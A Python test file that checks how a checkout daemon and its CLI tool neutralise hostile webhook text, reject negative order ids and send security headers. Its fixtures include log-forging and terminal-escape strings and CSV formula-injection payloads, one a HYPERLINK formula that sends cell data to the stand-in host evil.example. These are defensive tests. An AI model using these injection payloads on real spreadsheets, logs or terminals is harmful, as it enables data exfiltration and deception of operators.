"""What the daemon and lanecastctl write out when webhooks carry hostile text: log lines that
cannot be forged, terminal output without escape codes, CSV cells a spreadsheet will not run,
order ids that can be read back, and the headers that keep the pages from being framed or
loading anything foreign."""

import csv
import io
import json
import os
import re
import tempfile
import unittest

from harness import Daemon, checkout, main, mutator_request, run_ctl, zone_event

FORGED = "x\n<0>FAKE emergency: disk on fire"
ESCAPES = "\x1b[2J\x1b]0;owned\x07\x9b31m"
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=2+3", "+1+1", "-2+3", "@SUM(A1:A2)",
            "\t=1", "\r=1"]


class HostileTextInWebhooks(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.daemon = Daemon().start()
        d = cls.daemon
        assert d.post("/aifi/checkout-zone/entered", zone_event(zone="lane-9", session=FORGED)).status == 200
        assert d.post("/aifi/checkout-zone/entered", zone_event(zone="lane-8", session=ESCAPES)).status == 200
        assert d.post("/aifi/checkout", checkout(9001, session=FORGED)).status == 200
        assert d.post("/aifi/checkout", checkout(9002, session=ESCAPES)).status == 200
        for offset, formula in enumerate(FORMULAS):
            assert d.post("/aifi/checkout", checkout(9100 + offset, session=formula)).status == 200
        refund = checkout(9200, session="refund", total="-1.50", tax="0.00")
        assert d.post("/aifi/checkout", refund).status == 200

    @classmethod
    def tearDownClass(cls):
        cls.daemon.cleanup()

    def test_a_session_id_cannot_forge_a_journal_line(self):
        lines = self.daemon.logs().splitlines()
        self.assertFalse([line for line in lines if line.startswith("<0>") or line.startswith("FAKE")], lines)
        webhook_lines = [line for line in lines if "session=x" in line]
        self.assertTrue(webhook_lines, lines)
        for line in webhook_lines:
            self.assertIn("session=x\\n<0>FAKE emergency: disk on fire", line)
            self.assertRegex(line, r"^<[3-7]>webhook ")

    def test_escape_codes_never_reach_the_log(self):
        log = self.daemon.logs()
        self.assertNotIn("\x1b", log)
        self.assertNotIn("\x07", log)
        self.assertIn("session=\\x1b[2J\\x1b]0;owned\\x07\\xc2\\x9b31m", log)

    def ctl_text(self, *args):
        done = run_ctl("--url", f"http://127.0.0.1:{self.daemon.port}", "--db", self.daemon.db_path, *args)
        self.assertEqual(done.returncode, 0, done.stderr)
        return done.stdout

    def test_lanecastctl_tables_show_control_characters_escaped(self):
        for args in (["sessions"], ["orders"], ["events"], ["order", "9001"], ["order", "9002", "--bodies"],
                     ["lanes"], ["events", "--bodies"]):
            with self.subTest(args):
                out = self.ctl_text(*args)
                for byte in ("\x1b", "\x07", "\x9b", "\r"):
                    self.assertNotIn(byte, out, f"{args}: {byte!r} reached the terminal")
                self.assertFalse([line for line in out.splitlines() if line.startswith("<0>FAKE")], out)
        sessions = self.ctl_text("sessions")
        self.assertIn("x\\n<0>FAKE", sessions)
        self.assertIn("\\x1b[2J", sessions)
        self.assertIn("session x\\n<0>FAKE emergency: disk on fire  first seen", self.ctl_text("order", "9001"))

    def test_lanecastctl_json_keeps_the_exact_values(self):
        done = run_ctl("--json", "--db", self.daemon.db_path, "order", "9002")
        self.assertEqual(done.returncode, 0, done.stderr)
        self.assertEqual(json.loads(done.stdout)["order"]["sessionId"], ESCAPES)

    def export(self, what):
        with tempfile.TemporaryDirectory() as directory:
            path = os.path.join(directory, f"{what}.csv")
            done = run_ctl("--db", self.daemon.db_path, "export", "--format", "csv", "--what", what, "--output", path)
            self.assertEqual(done.returncode, 0, done.stderr)
            with open(path, newline="", encoding="utf-8") as f:
                return list(csv.DictReader(f))

    def test_csv_export_neutralises_formulas_and_keeps_numbers(self):
        orders = {int(row["order_id"]): row for row in self.export("orders")}
        for offset, formula in enumerate(FORMULAS):
            with self.subTest(formula):
                self.assertEqual(orders[9100 + offset]["session_id"], "'" + formula)
        self.assertEqual(orders[9200]["total_price"], "-1.50")
        self.assertEqual(orders[9200]["total_tax"], "0.00")
        self.assertEqual(orders[9001]["session_id"], FORGED)  # quoted, not a formula: kept exactly
        events = self.export("events")
        sessions = {row["session_id"] for row in events}
        self.assertIn("'=2+3", sessions)
        self.assertNotIn("=2+3", sessions)
        for row in events:
            for name, cell in row.items():
                self.assertFalse(cell[:1] in ("=", "+", "@", "\t", "\r") or re.match(r"-(?![0-9.]+$)", cell),
                                 f"{name}: {cell!r} would run as a formula")


class NegativeOrderIds(unittest.TestCase):
    def test_are_refused_naming_the_field_and_nothing_is_stored(self):
        with Daemon() as daemon:
            for path, body in (("/aifi/checkout", checkout(-1)), ("/aifi/cart-mutator", mutator_request(-1)),
                               ("/aifi/checkout", checkout(-9007199254740991))):
                with self.subTest(path=path, order=body["orderId"]):
                    r = daemon.post(path, body)
                    self.assertEqual((r.status, r.json()["error"]), (400, "invalid_body"), r)
                    self.assertIn("orderId: must not be negative", r.json()["detail"])
            self.assertEqual(daemon.all_events(), [])
            self.assertEqual(daemon.post("/aifi/checkout", checkout(0)).status, 200)
            self.assertEqual(daemon.request("GET", "/api/orders/0").status, 200)


class SecurityHeaders(unittest.TestCase):
    def test_every_page_asset_and_answer_forbids_framing_and_foreign_content(self):
        with Daemon() as daemon:
            for path in ("/staff", "/display/1", "/assets/staff.js", "/assets/display.css", "/assets/logo.svg",
                         "/api/lanes", "/api/display/config", "/healthz", "/api/orders/424242", "/nowhere"):
                with self.subTest(path):
                    r = daemon.request("GET", path)
                    csp = r.header("Content-Security-Policy") or ""
                    directives = {d.strip().split(" ")[0]: d.strip() for d in csp.split(";") if d.strip()}
                    self.assertEqual(directives.get("default-src"), "default-src 'self'", csp)
                    self.assertEqual(directives.get("frame-ancestors"), "frame-ancestors 'none'", csp)
                    self.assertEqual(directives.get("object-src"), "object-src 'none'", csp)
                    self.assertEqual(directives.get("base-uri"), "base-uri 'none'", csp)
                    self.assertEqual(r.header("X-Frame-Options"), "DENY")
                    self.assertEqual(r.header("Referrer-Policy"), "no-referrer")
                    self.assertEqual(r.header("X-Content-Type-Options"), "nosniff")
                    self.assertEqual(r.header("Cross-Origin-Resource-Policy"), "same-origin")


if __name__ == "__main__":
    main()
